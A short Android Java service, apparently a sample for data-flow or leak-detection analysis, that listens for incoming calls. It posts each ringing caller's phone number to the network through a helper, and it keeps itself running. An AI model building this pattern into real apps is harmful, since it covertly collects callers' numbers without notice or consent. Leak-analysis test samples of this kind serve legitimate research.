package org.example.flows.phone;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.PhoneStateListener;
import org.example.flows.Device;
import org.example.flows.Net;

public class CallWatch extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        Device.phone(this).listen(new Listener(), PhoneStateListener.LISTEN_CALL_STATE);
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    static class Listener extends PhoneStateListener {
        @Override
        public void onCallStateChanged(int state, String number) {
            if (state == 1) {
                Net.post("call=" + number);
            }
        }
    }
}
